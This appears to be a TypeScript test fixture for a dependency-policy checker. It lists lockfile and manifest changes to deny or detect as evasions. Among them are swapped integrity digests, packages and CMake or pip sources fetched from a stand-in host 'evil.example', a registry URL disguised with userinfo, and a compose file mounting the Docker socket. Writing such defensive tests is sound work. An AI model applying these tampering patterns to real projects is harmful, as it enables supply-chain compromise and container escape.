import type { CaseKind, PolicyCase } from './policy-case.ts'

const digest = (letter: string): string => `sha512-${letter.repeat(86)}==`
const entry = { version: '1.3.0', resolved: 'https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz', integrity: digest('a') }
const lockOf = (packages: object): string => `${JSON.stringify({ name: 'x', lockfileVersion: 3, packages: { '': { name: 'x' }, 'node_modules/left-pad': entry, ...packages } }, null, 2)}\n`
const lock = lockOf({})
const other = { version: '2.0.0', resolved: 'https://registry.npmjs.org/other/-/other-2.0.0.tgz', integrity: digest('b') }
const yarn = `# yarn lockfile v1\n\n\nleft-pad@^1.0.0:\n  version "1.3.0"\n  resolved "${entry.resolved}#${'1'.repeat(40)}"\n  integrity ${digest('a')}\n`
const poetry = `[[package]]\nname = "six"\nversion = "1.16.0"\nfiles = [\n    {file = "six.whl", hash = "sha256:${'a'.repeat(64)}"},\n]\n`

const change = (kind: CaseKind, name: string, { path, before, after, denied }: { readonly path: string; readonly before: string; readonly after: string; readonly denied?: true }): PolicyCase => ({ name: `dependencies: ${name}`, kind, before: { [path]: before }, after: { [path]: after }, ...(denied === undefined ? {} : { denied }) })
const npm = (kind: CaseKind, name: string, packages: object, denied?: true): PolicyCase => change(kind, name, { path: 'package-lock.json', before: lock, after: lockOf(packages), ...(denied === undefined ? {} : { denied }) })

/** Lockfiles and what may stand in them; every change of one is asked about, and some are denied. */
export const dependencyCases: readonly PolicyCase[] = [
  npm('deny', 'another digest of one version', { 'node_modules/left-pad': { ...entry, integrity: digest('z') } }, true),
  npm('deny', 'a package from another host', { 'node_modules/other': { ...other, resolved: 'https://evil.example/other/-/other-2.0.0.tgz' } }),
  npm('deny', 'a package with a script', { 'node_modules/other': { ...other, hasInstallScript: true } }),
  npm('deny', 'a package without a digest', { 'node_modules/other': { ...other, integrity: undefined } }),
  npm('evasion', 'another digest in another place', { 'node_modules/a/node_modules/left-pad': { ...entry, integrity: digest('z') } }, true),
  npm('evasion', 'a host behind a name', { 'node_modules/other': { ...other, resolved: 'https://registry.npmjs.org@evil.example/other/-/other-2.0.0.tgz' } }),
  npm('evasion', 'another package under the name', { 'node_modules/other': { ...other, resolved: 'https://registry.npmjs.org/evil/-/evil-2.0.0.tgz' } }),
  change('evasion', 'another digest in yarn.lock', { path: 'yarn.lock', before: yarn, after: yarn.replace(digest('a'), digest('z')).replace('1'.repeat(40), '2'.repeat(40)), denied: true }),
  change('evasion', 'another digest in poetry.lock', { path: 'poetry.lock', before: poetry, after: poetry.replace('a'.repeat(64), 'b'.repeat(64)), denied: true }),
  change('evasion', 'sources that CMake fetches', { path: 'cmake/deps.cmake', before: '', after: 'include(FetchContent)\nFetchContent_Declare(x GIT_REPOSITORY https://evil.example/x GIT_TAG main)\n' }),
  change('evasion', 'an environment of conda', { path: 'environment.yml', before: 'dependencies:\n  - numpy\n', after: 'dependencies:\n  - numpy\n  - pip:\n    - git+https://evil.example/x\n' }),
  change('evasion', 'a container with the host', { path: 'compose.yaml', before: 'services:\n', after: 'services:\n  x:\n    image: alpine\n    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock\n' }),
]
